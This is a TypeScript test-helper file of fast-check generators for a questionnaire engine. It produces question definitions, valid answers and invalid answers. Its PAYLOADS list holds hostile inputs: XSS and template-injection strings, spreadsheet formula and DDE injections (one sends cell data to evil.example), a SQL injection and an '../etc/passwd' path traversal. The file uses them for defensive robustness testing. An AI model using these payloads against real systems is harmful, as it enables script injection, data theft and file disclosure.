// fast-check generators: questionnaire definitions of every question type, answer sets valid for them,
// and answer sets spoiled at exactly one question.
import fc from "fast-check";
import type { Answers, Mode, SimpleAnswer } from "../../functions/core/questionnaire/answers.ts";
import { isStorableText, MAX_NUMBER, MIN_MAGNITUDE } from "../../functions/core/questionnaire/answers.ts";
import {
  loadQuestionnaire,
  type Question,
  type Questionnaire,
  type SimpleQuestion,
} from "../../functions/core/questionnaire/definition.ts";
import { items, text } from "./factories.ts";

/** Hostile and awkward texts every generated text may be replaced by. */
export const PAYLOADS = [
  `<script>alert("xss")</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202eevil.exe\u202c gpj.txt",
  "مرحبا بالعالم — שלום עולם",
  "👩🏽‍⚖️ 🇧🇷 🏳️‍🌈 e\u0301",
  "line one\nline two\n\nline four",
  "a & b < c > d \" e ' f ` g = h",
  "%00 %2e%2e%2f ../../etc/passwd",
  "Robert'); DROP TABLE responses;--",
  "\u0000 NUL inside",
  "pasted from Word\u000bwith a vertical tab",
];

/** Ids as the definition allows them (kebab-case, never a name every object already has). */
const idArb = fc
  .stringMatching(/^[a-z][a-z0-9]{0,5}(-[a-z0-9]{1,3})?$/)
  .filter((id) => !(id in Object.prototype));
const itemIds = (min = 1, max = 6) => fc.uniqueArray(idArb, { minLength: min, maxLength: max });

const common = (id: string) => ({ id, label: text(`Question ${id}`) });

/** A simple question of any type (its id given), as the Secretariat would write it. */
const simpleSource = (id: string): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .oneof(
      fc.record({ type: fc.constant("single-choice"), options: itemIds().map((ids) => items(...ids)) }),
      itemIds().chain((ids) =>
        fc.record(
          {
            type: fc.constant("multiple-choice"),
            options: fc.constant(items(...ids)),
            maxPicks: fc.integer({ min: 1, max: ids.length }),
          },
          { requiredKeys: ["type", "options"] },
        ),
      ),
      fc
        .record({
          type: fc.constant("scale"),
          items: itemIds().map((ids) => items(...ids)),
          min: fc.integer({ min: -5, max: 5 }),
          span: fc.integer({ min: 1, max: 10 }),
        })
        .map(({ span, ...q }) => ({ ...q, max: q.min + span })),
      itemIds().chain((ids) =>
        fc.record({
          type: fc.constant("top-n"),
          items: fc.constant(items(...ids)),
          n: fc.integer({ min: 1, max: ids.length }),
        }),
      ),
      fc.record(
        { type: fc.constant("short-text"), maxLength: fc.integer({ min: 1, max: 1000 }) },
        { requiredKeys: ["type"] },
      ),
      fc.record(
        { type: fc.constant("long-text"), maxLength: fc.integer({ min: 1, max: 20_000 }) },
        { requiredKeys: ["type"] },
      ),
      fc
        .record(
          {
            type: fc.constant("number"),
            min: fc.integer({ min: -1000, max: 1000 }),
            span: fc.integer({ min: 0, max: 100_000 }),
            integer: fc.boolean(),
            bounded: fc.constantFrom("both", "min", "max", "none"),
          },
          { requiredKeys: ["type", "min", "span", "bounded"] },
        )
        .map(({ min, span, bounded, ...q }) => ({
          ...q,
          ...(bounded === "both" || bounded === "min" ? { min } : {}),
          ...(bounded === "both" || bounded === "max" ? { max: min + span } : {}),
        })),
      fc.record(
        {
          type: fc.constant("money"),
          currencies: fc.uniqueArray(fc.constantFrom("USD", "EUR", "BRL", "MXN"), {
            minLength: 1,
            maxLength: 3,
          }),
          min: fc.integer({ min: -100, max: 1000 }),
        },
        { requiredKeys: ["type", "currencies"] },
      ),
      fc.constant({ type: "yes-no" }),
      fc.record(
        {
          type: fc.constant("allocation"),
          items: itemIds().map((ids) => items(...ids)),
          total: fc.integer({ min: 1, max: 1000 }),
        },
        { requiredKeys: ["type", "items"] },
      ),
      fc.record(
        {
          type: fc.constant("matrix"),
          items: itemIds().map((ids) => items(...ids.map((i) => `r${i}`))),
          columns: itemIds(2).map((ids) => items(...ids)),
          other: fc.constant(text("Another one")),
        },
        { requiredKeys: ["type", "items", "columns"] },
      ),
    )
    .chain((q) => fc.boolean().map((required) => ({ ...common(id), ...q, required })));

/** A file question (top level only: a group's entries hold none). */
const fileSource = (id: string): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .record({
      accept: fc.subarray(["pdf", "docx", "odt", "xlsx"], { minLength: 1 }),
      maxFiles: fc.integer({ min: 1, max: 10 }),
      required: fc.boolean(),
    })
    .map((q) => ({ ...common(id), type: "file", ...q }));

const groupSource = (id: string) =>
  fc
    .uniqueArray(idArb, { minLength: 1, maxLength: 3 })
    .chain((fieldIds) => fc.tuple(...fieldIds.map(simpleSource)))
    .chain((fields) =>
      fc
        .record({
          minItems: fc.integer({ min: 0, max: 2 }),
          extra: fc.integer({ min: 0, max: 3 }),
          required: fc.boolean(),
        })
        .map(({ minItems, extra, required }) => ({
          ...common(id),
          type: "group",
          fields,
          minItems,
          maxItems: Math.max(1, minItems + extra),
          itemLabel: text("Entry"),
          required,
        })),
    );

/** A loaded questionnaire of 1 to 8 questions of every type, groups included; no conditions. */
export const questionnaireArb: fc.Arbitrary<Questionnaire> = fc
  .uniqueArray(idArb, { minLength: 1, maxLength: 8 })
  .chain((ids) =>
    fc.tuple(
      ...ids.map((id) =>
        fc.oneof(
          { weight: 5, arbitrary: simpleSource(id) },
          { weight: 1, arbitrary: groupSource(id) },
          { weight: 1, arbitrary: fileSource(id) },
        ),
      ),
    ),
  )
  .map((questions) => {
    const loaded = loadQuestionnaire({
      id: "generated",
      version: 1,
      title: text("Generated"),
      sections: [{ id: "main", title: text("Main"), questions }],
    });
    if (!loaded.ok) throw new Error(`generated an invalid definition: ${JSON.stringify(loaded.error)}`);
    return loaded.value;
  });

/**
 * Text as the engine keeps it: trimmed, not blank, within the limit, storable (no control characters
 * but tab and line feed). Awkward characters welcome; line breaks only where the field has lines.
 */
export const textArb = (maxLength: number, multiline: boolean) =>
  fc
    .oneof(
      fc.string({ unit: "grapheme", minLength: 1, maxLength: Math.min(maxLength, 60) }),
      fc.constantFrom(...PAYLOADS),
      fc
        .array(fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 }), { minLength: 2, maxLength: 4 })
        .map((lines) => lines.join("\n")),
    )
    .map((s) => (multiline ? s : s.replace(/[\r\n]+/g, " ")).replace(/\r/g, "").trim())
    .filter((s) => s.length > 0 && s.length <= maxLength && isStorableText(s));

/** Numbers as a person would type them: integers or up to three decimals, within [min, max]. */
export const typedNumberArb = (min: number, max: number, integer: boolean) =>
  fc
    .tuple(fc.integer({ min: Math.ceil(min), max: Math.floor(max) }), fc.integer({ min: 0, max: 999 }))
    .map(([whole, thousandths]) => (integer ? whole : Number((whole + thousandths / 1000).toFixed(3))))
    .filter((n) => n >= min && n <= max && !Object.is(n, -0));

/** Any double the engine accepts for [min, max]: the widest inputs, not only typed ones. */
const anyNumberArb = (min: number, max: number, integer: boolean) =>
  integer
    ? fc.integer({ min: Math.max(Math.ceil(min), -MAX_NUMBER), max: Math.min(Math.floor(max), MAX_NUMBER) })
    : fc.oneof(
        fc
          .double({ min: Math.max(min, -MAX_NUMBER), max: Math.min(max, MAX_NUMBER), noNaN: true })
          .filter((n) => n === 0 || Math.abs(n) >= MIN_MAGNITUDE),
        typedNumberArb(Math.max(min, -MAX_NUMBER), Math.min(max, MAX_NUMBER), false),
      );

// -0 is stored and read back as 0: the same answer to a person, though not to Object.is.
const noNegativeZero = (n: number) => !Object.is(n, -0);

export type NumberStyle = "any" | "typed";

const numberFor = (style: NumberStyle) => (style === "typed" ? typedNumberArb : anyNumberArb);

/** A valid, non-empty answer to a simple question, in the form the engine returns it. */
export const simpleAnswerArb = (
  q: SimpleQuestion,
  mode: Mode,
  style: NumberStyle = "any",
): fc.Arbitrary<SimpleAnswer> => {
  const strict = mode === "submit" && q.required;
  const num = numberFor(style);
  switch (q.type) {
    case "single-choice":
      return fc.constantFrom(...q.options.map((o) => o.id));
    case "multiple-choice":
      // A set of options, in the options' order as the form's checkboxes send them.
      return fc.subarray(
        q.options.map((o) => o.id),
        { minLength: 1, maxLength: q.maxPicks ?? q.options.length },
      );
    case "scale": {
      const ids = q.items.map((i) => i.id);
      const score = fc.integer({ min: q.min, max: q.max });
      return (strict ? fc.constant(ids) : fc.subarray(ids, { minLength: 1 })).chain((keys) =>
        fc
          .tuple(...keys.map(() => score))
          .map((scores) => Object.fromEntries(keys.map((k, i) => [k, scores[i]]))),
      ) as fc.Arbitrary<Record<string, number>>;
    }
    case "top-n":
      return fc.shuffledSubarray(
        q.items.map((i) => i.id),
        { minLength: strict ? q.n : 1, maxLength: q.n },
      );
    case "short-text":
    case "long-text":
      return textArb(q.maxLength, q.type === "long-text");
    case "number":
      return num(q.min ?? -MAX_NUMBER, q.max ?? MAX_NUMBER, q.integer).filter(noNegativeZero);
    case "money":
      return fc.record({
        amount: num(q.min, MAX_NUMBER, false).filter(noNegativeZero),
        currency: fc.constantFrom(...q.currencies),
      });
    case "yes-no":
      return fc.boolean();
    case "allocation": {
      const ids = q.items.map((i) => i.id);
      if (mode === "draft")
        return fc
          .subarray(ids, { minLength: 1 })
          .chain((keys) =>
            fc
              .tuple(...keys.map(() => num(0, q.total, false).filter(noNegativeZero)))
              .map((shares) => Object.fromEntries(keys.map((k, i) => [k, shares[i]]))),
          ) as fc.Arbitrary<Record<string, number>>;
      // Whole shares that add up exactly to the total, as the form asks.
      return fc.subarray(ids, { minLength: 1 }).chain((keys) =>
        fc
          .array(fc.integer({ min: 0, max: q.total }), {
            minLength: keys.length - 1,
            maxLength: keys.length - 1,
          })
          .map((cuts) => {
            const sorted = [...cuts, 0, q.total].sort((a, b) => a - b);
            return Object.fromEntries(keys.map((k, i) => [k, (sorted[i + 1] ?? 0) - (sorted[i] ?? 0)]));
          }),
      ) as fc.Arbitrary<Record<string, number>>;
    }
    case "matrix": {
      const rows = q.items.map((i) => i.id);
      const choice = fc.constantFrom(...q.columns.map((c) => c.id));
      const picks = (strict ? fc.constant(rows) : fc.subarray(rows)).chain((keys) =>
        fc.tuple(...keys.map(() => choice)).map((cs) => Object.fromEntries(keys.map((k, i) => [k, cs[i]!]))),
      );
      // The named row: both its name and its choice, or (in a draft) either alone.
      const other = q.other
        ? fc.oneof(
            fc.constant({}),
            fc.record({ other: choice, "other-name": textArb(200, false) }),
            ...(mode === "draft"
              ? [fc.record({ other: choice }), fc.record({ "other-name": textArb(200, false) })]
              : []),
          )
        : fc.constant({});
      return fc
        .tuple(picks, other)
        .map(([p, o]) => ({ ...p, ...o }) as Record<string, string>)
        .filter((a) => Object.keys(a).length > 0);
    }
    case "file":
      // Stored files as the form names them: id, type, size, name (names in any script).
      return fc.uniqueArray(
        fc
          .tuple(
            fc.stringMatching(/^[A-Za-z0-9_-]{22}$/),
            fc.constantFrom(...q.accept),
            fc.integer({ min: 1, max: q.maxBytes }),
            fc.constantFrom("Posição", "Position paper", "Avis de l'organisation", "文件"),
          )
          .map(([id, type, size, name]) => `${id}:${type}:${size}:${name}.${type}`),
        { minLength: 1, maxLength: q.maxFiles },
      );
  }
};

/** A valid answer to any question; undefined-free. */
export const answerArb = (
  q: Question,
  mode: Mode,
  style: NumberStyle = "any",
): fc.Arbitrary<Answers[string]> => {
  if (q.type !== "group") return simpleAnswerArb(q, mode, style);
  const row = fc
    .record(Object.fromEntries(q.fields.map((f) => [f.id, simpleAnswerArb(f, mode, style)])), {
      requiredKeys: mode === "submit" ? q.fields.filter((f) => f.required).map((f) => f.id) : [],
    })
    .filter((r) => Object.keys(r).length > 0);
  const min = mode === "submit" && q.required ? Math.max(1, q.minItems) : 1;
  return fc.array(row, { minLength: Math.min(min, q.maxItems), maxLength: q.maxItems });
};

const allQuestionsOf = (q: Questionnaire) => q.sections.flatMap((s) => s.questions);

/** A whole answer set valid in `mode`: every required question answered for a submission. */
export const answersArb = (
  q: Questionnaire,
  mode: Mode,
  style: NumberStyle = "any",
): fc.Arbitrary<Answers> => {
  const questions = allQuestionsOf(q);
  return fc.record(Object.fromEntries(questions.map((x) => [x.id, answerArb(x, mode, style)])), {
    requiredKeys: mode === "submit" ? questions.filter((x) => x.required).map((x) => x.id) : [],
  }) as fc.Arbitrary<Answers>;
};

/** A questionnaire with an answer set valid for it. */
export const answeredArb = (mode: Mode, style: NumberStyle = "any") =>
  questionnaireArb.chain((questionnaire) =>
    answersArb(questionnaire, mode, style).map((answers) => ({ questionnaire, answers })),
  );

/** Values no question of this type accepts (and none of them blank, which would mean "unanswered"). */
export const invalidAnswerArb = (q: Question): fc.Arbitrary<unknown> => {
  const notAnId = fc.constantFrom("NOT AN OPTION", "Alpha", "../x", "<b>", "__proto__");
  const garbage = fc.constantFrom<unknown>(42, true, { x: 1 }, [[1]], "\u0000", Number.NaN);
  switch (q.type) {
    case "single-choice":
      return fc.oneof(notAnId, fc.constantFrom<unknown>(42, true, { x: 1 }, ["a", "b"]));
    case "multiple-choice": {
      const ids = q.options.map((o) => o.id);
      const tooMany = q.maxPicks && q.maxPicks < ids.length ? [fc.constant(ids)] : [];
      return fc.oneof(
        notAnId.map((x) => [x]),
        fc.constant([ids[0], ids[0]]),
        fc.constantFrom<unknown>(42, { x: 1 }, [7]),
        ...tooMany,
      );
    }
    case "scale": {
      const first = q.items[0]?.id ?? "x";
      return fc.oneof(
        fc.constant({ [first]: q.max + 1 }),
        fc.constant({ [first]: q.min - 1 }),
        fc.constant({ [first]: q.min + 0.5 }),
        fc.constant({ [first]: "seven" }),
        fc.constant({ "no-such-item": q.min }),
        fc.constantFrom<unknown>("7", 7, ["a"]),
      );
    }
    case "top-n": {
      const ids = q.items.map((i) => i.id);
      return fc.oneof(
        fc.constant([...ids, "extra-item"]),
        fc.constant([ids[0], ids[0]]),
        notAnId.map((x) => [x]),
        fc.constantFrom<unknown>(42, { x: 1 }),
      );
    }
    case "short-text":
    case "long-text":
      return fc.oneof(
        fc.constant("x".repeat(q.maxLength + 1)),
        // Lengths are counted in characters (code points), as a person counts them.
        fc.constant("🙂".repeat(q.maxLength + 1)),
        fc.constantFrom<unknown>(42, true, { x: "y" }, ["a", { b: 1 }]),
        fc.constantFrom("a\uD800b", "NUL \u0000 inside", "vertical\u000btab"),
      );
    case "number":
      return fc.oneof(
        fc.constantFrom<unknown>(
          "twelve",
          "12",
          Number.NaN,
          Number.POSITIVE_INFINITY,
          1e300,
          -1e300,
          5e-324,
          true,
        ),
        ...(q.max !== undefined ? [fc.constant(q.max + 1)] : []),
        ...(q.min !== undefined ? [fc.constant(q.min - 1)] : []),
        ...(q.integer ? [fc.constant((q.min ?? 0) + 0.5)] : []),
      );
    case "money":
      return fc.oneof(
        fc.constant({ amount: 10_000, currency: "XXX" }),
        fc.constant({ amount: q.min - 1, currency: q.currencies[0] }),
        fc.constant({ amount: "lots", currency: q.currencies[0] }),
        fc.constant({ amount: 1e300, currency: q.currencies[0] }),
        fc.constant({ amount: 5, currency: q.currencies[0], extra: true }),
        fc.constantFrom<unknown>(5, "5 USD"),
      );
    case "yes-no":
      return fc.constantFrom<unknown>("maybe", "yes", 1, 0, { yes: true });
    case "allocation": {
      const first = q.items[0]?.id ?? "x";
      return fc.oneof(
        fc.constant({ [first]: -1 }),
        fc.constant({ [first]: q.total + 1 }),
        fc.constant({ [first]: 5e-324 }),
        fc.constant({ "no-such-item": 1 }),
        fc.constantFrom<unknown>(100, "all"),
      );
    }
    case "matrix": {
      const first = q.items[0]?.id ?? "x";
      return fc.oneof(
        fc.constant({ [first]: "NOT-A-COLUMN" }),
        fc.constant({ [first]: [q.columns[0]?.id] }),
        fc.constant({ "no-such-row": q.columns[0]?.id }),
        ...(q.other ? [fc.constant({ "other-name": "x".repeat(201) })] : []),
        fc.constantFrom<unknown>("useful", 3, ["a"]),
      );
    }
    case "file":
      return fc.oneof(
        // A name with a folder in it, a type it does not take, more files than it takes.
        fc.constant(["abcdefghijklmnopqrstuv:pdf:10:../../etc/passwd"]),
        fc.constant(["abcdefghijklmnopqrstuv:exe:10:setup.exe"]),
        fc.constant(
          Array.from({ length: q.maxFiles + 1 }, (_, i) => `abcdefghijklmnopqrst${10 + i}:pdf:10:a.pdf`),
        ),
        fc.constantFrom<unknown>("position.pdf", 42, { x: 1 }, [7]),
      );
    case "group":
      return fc.oneof(
        fc.constant(Array.from({ length: q.maxItems + 1 }, () => ({ [q.fields[0]!.id]: "😀" }))),
        fc.constant([{ "no-such-field": "x" }]),
        invalidAnswerArb(q.fields[0]!).map((bad) => [{ [q.fields[0]!.id]: bad }]),
        garbage.filter((g) => !Array.isArray(g)),
      );
  }
};
